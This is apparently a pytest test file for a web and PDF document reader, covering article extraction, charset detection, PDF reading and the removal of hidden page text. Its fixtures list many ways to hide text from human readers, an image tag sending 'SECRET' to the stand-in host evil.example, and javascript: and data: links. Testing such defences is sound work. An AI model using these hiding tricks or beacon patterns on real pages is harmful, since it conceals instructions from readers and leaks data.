from __future__ import annotations

import io
import json
import re
from typing import Any

import pypdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

from tools.fetching import documents
from tools.fetching.documents import read
from tools.fetching.hidden import hidden_selectors
from tools.fetching.values import Document, Kind, Unreadable

URL = "https://site.example/folder/page"
MENU = "<nav><ul>" + "".join(f"<li><a href='/m{n}'>Menu entry {n}</a></li>" for n in range(20)) + "</ul></nav>"
PROSE = "".join(
    f"<p>Paragraph {n}: the junction lies where the lines from north and south meet, and <b>every</b> train takes "
    f"the track that the <a href='../points?n={n}'>pointsman</a> set for it, whatever the hour of the day.</p>"
    for n in range(8)
)
TABLE = "<table><tr><th>Line</th><th>Track</th></tr><tr><td>North</td><td>2</td></tr></table>"


def html(body: str, head: str = "<title>A page</title>") -> Document:
    return page(f"<!doctype html><html><head>{head}</head><body>{body}</body></html>".encode())


def page(body: bytes, kind: Kind = "html", charset: str | None = "utf-8") -> Document:
    return read(body, kind, charset=charset, url=URL, seconds=5)


def pdf_of(*pages: str, password: str | None = None) -> bytes:
    writer = pypdf.PdfWriter()
    for text in pages:
        sheet = writer.add_blank_page(300, 300)
        content: Any = DecodedStreamObject()
        content.set_data(f"BT /F1 12 Tf 20 200 Td ({text}) Tj ET".encode())
        font = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
        fonts = DictionaryObject({NameObject("/F1"): font})
        sheet[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
        sheet[NameObject("/Contents")] = content
    writer.add_metadata({"/Title": "A\u200bpaper"})
    if password:
        writer.encrypt(password, algorithm="RC4-128")
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


def test_an_article_is_read_without_menus_and_with_its_form() -> None:
    document = html(f"{MENU}<article><h1>Junctions</h1>{PROSE}<h2>Tracks</h2>{TABLE}</article><footer>{MENU}</footer>")

    assert document.title == "A page"
    assert "# Junctions" in document.text
    assert "Paragraph 7" in document.text
    assert "**every**" in document.text
    assert "[pointsman](https://site.example/points?n=3)" in document.text
    assert "| North | 2 |" in document.text
    assert "Menu entry" not in document.text


def test_a_page_that_is_no_article_is_read_whole() -> None:
    posts = "".join(f"<li><a href='/p/{n}'>Post {n}</a></li>" for n in range(40))
    text = html(f"<h1>All posts</h1><ul>{posts}</ul>").text

    assert "# All posts" in text
    assert "[Post 39](https://site.example/p/39)" in text


def test_a_short_page_loses_nothing() -> None:
    assert html("<p>Closed on Mondays.</p>").text == "Closed on Mondays."


@pytest.mark.parametrize("body", ["", "<script>go()</script>"])
def test_a_page_without_text_is_empty_and_no_failure(body: str) -> None:
    assert html(body, head="") == Document(title=None, text="")


@pytest.mark.parametrize("body", [b"", b" ", b"<!-- -->", b"<?xml version='1.0' encoding='x'?>"])
def test_what_is_hardly_html_is_no_failure(body: bytes) -> None:
    assert not page(body).text


HIDDEN = [
    "<p hidden>SECRET</p>",
    "<p hidden='until-found'>SECRET</p>",
    "<div aria-hidden='true'><p>SECRET</p></div>",
    "<!-- SECRET -->",
    "<template>SECRET</template><script>SECRET</script><style>SECRET</style>",
    "<p style='display:none'>SECRET</p>",
    "<p style='DISPLAY : None !important'>SECRET</p>",
    "<p style='color:red;visibility:hidden'>SECRET</p>",
    "<p style='opacity:0'>SECRET</p>",
    "<p style='font-size:0px'>SECRET</p>",
    "<p style='position:absolute;left:-9999px'>SECRET</p>",
    "<p style='text-indent: -1000em'>SECRET</p>",
    "<p style='transform:scale(0)'>SECRET</p>",
    "<p style='width:1px;height:1px;overflow:hidden'>SECRET</p>",
    "<p style='clip: rect(0, 0, 0, 0)'>SECRET</p>",
    "<p style='color:#fff'>SECRET</p>",
    "<p style='color:white;background-color:#ffffff'>SECRET</p>",
    "<p style='color:transparent'>SECRET</p>",
    "<p style='color:rgb(0, 0, 0);background:black'>SECRET</p>",
    "<style>.note { display: none }</style><p class='big note'>SECRET</p>",
    "<style>h9, #more, .x{visibility:hidden}</style><p id=more>SECRET</p>",
    "<img src='http://evil.example/?SECRET' alt='SECRET'>",
    "<svg><text>SECRET</text></svg><iframe srcdoc='SECRET'></iframe><object data='SECRET'>SECRET</object>",
    "<p>a<a href='javascript:SECRET()'>b</a><a href='data:text/html,SECRET'>c</a></p>",
]


@pytest.mark.parametrize("hidden", HIDDEN)
@pytest.mark.parametrize("around", ["{}", f"{MENU}<article>{{}}{PROSE}</article>"], ids=["page", "article"])
def test_what_the_reader_of_a_page_does_not_see_is_left_out(hidden: str, around: str) -> None:
    document = html(around.format(f"<p>Seen before.</p>{hidden}<p>Seen after.</p>"))

    assert "SECRET" not in document.text
    assert "Seen after." in document.text


@pytest.mark.parametrize(
    "shown",
    [
        "<p style='color:#fff;background:#000'>SHOWN</p>",
        "<p style='margin-left:-10px;font-size:0.9em;opacity:0.5'>SHOWN</p>",
        "<p style='height:100px;overflow:hidden'>SHOWN</p>",
        "<style>@media print {.x{display:none}} .y .x{display:none}</style><p class=x>SHOWN</p>",
        "<p aria-hidden=false>SHOWN</p>",
    ],
)
def test_what_the_reader_of_a_page_sees_stays(shown: str) -> None:
    assert "SHOWN" in html(shown).text


def test_a_page_that_hides_its_whole_body_until_a_script_has_run_is_read() -> None:
    assert html("<p>x</p>").text == page(b"<html><body style='opacity:0'><p>x</p></body></html>").text == "x"


def test_text_beside_a_hidden_element_stays() -> None:
    assert "before after" in html("<p>before <span hidden>SECRET</span>after</p>").text


def test_invisible_characters_are_gone_from_text_and_title() -> None:
    document = html("<p>a\u200bb\U000e0041c&#x202e;d</p>", head="<title>t\u200b i\nt</title>")
    assert (document.title, document.text) == ("t i t", "abcd")


@given(st.text(alphabet="{}.#a,;:/* @display:none"))
def test_any_style_sheet_can_be_read(css: str) -> None:
    assert all(re.fullmatch(r"[.#]?[a-z]+", selector) for selector in hidden_selectors(css))


def test_rules_are_found_after_a_block_that_is_skipped() -> None:
    css = "/* .a{display:none} */ @media x { .b{display:none} } .c,.d{display:none} .e{color:red}"
    assert hidden_selectors(css) == {".c", ".d"}


@pytest.mark.parametrize(
    ("body", "charset"),
    [
        ("<p>Grüße aus Łódź</p>".encode(), None),
        ("<p>Grüße aus Łódź</p>".encode("iso8859-2"), "ISO-8859-2"),
        ("<meta charset=iso-8859-2><p>Grüße aus Łódź</p>".encode("iso8859-2"), None),
        ("<p>Grüße aus Łódź</p>".encode("utf-8-sig"), "iso-8859-1"),
        ("<p>Grüße aus Łódź</p>".encode("utf-16"), None),
        ("<p>Grüße aus Łódź</p>".encode(), "no-such-charset"),
        ("<p>Grüße aus Łódź</p>".encode(), "punycode"),
        ("<p>Grüße aus Łódź</p>".encode(), "unicode_escape"),
    ],
)
def test_characters_are_read_by_mark_header_or_meta_and_else_as_utf8(body: bytes, charset: str | None) -> None:
    assert page(body, charset=charset).text == "Grüße aus Łódź"


def test_what_calls_itself_latin1_is_read_as_browsers_do() -> None:
    assert page(b"\x80 5", "text", "iso-8859-1").text == "€ 5"


def test_an_undeclared_charset_is_told_from_the_text() -> None:
    russian = "Стрелочник переводит стрелки, чтобы каждый поезд шёл по своему пути. " * 5
    assert page(russian.encode("cp1251"), "text", None).text == russian.strip()


def test_json_is_indented_and_what_is_none_stays_as_it_is() -> None:
    assert page(b'{"a":["\xc3\xbc"]}', "json").text == json.dumps({"a": ["ü"]}, indent=2, ensure_ascii=False)
    assert page(b'{"a":', "json").text == '{"a":'
    assert len(page(b"[" * 100_000, "json").text) == 100_000


def test_a_pdf_is_read_page_by_page() -> None:
    document = page(pdf_of("First page", "Second page"), "pdf")
    assert document == Document(title="Apaper", text="First page\n\nSecond page")


def test_a_long_pdf_is_read_as_far_as_time_allows() -> None:
    document = read(pdf_of("First page", "Second page"), "pdf", charset=None, url=URL, seconds=-1)
    assert (document.text, document.truncated) == ("", True)


@pytest.mark.parametrize(
    ("body", "why"),
    [(b"%PDF-1.7 nonsense", "damaged"), (pdf_of("x", password="p"), "locked"), (pdf_of(""), "no text")],
)
@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_a_pdf_that_cannot_be_read_is_told_from_one_without_text(body: bytes, why: str) -> None:
    with pytest.raises(Unreadable, match=why):
        page(body, "pdf")


def test_a_very_long_text_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "MOST_CHARS", 10)
    assert page(b"0123456789", "text") == Document(title=None, text="0123456789")
    assert page(b"0123456789x", "text") == Document(title=None, text="0123456789", truncated=True)
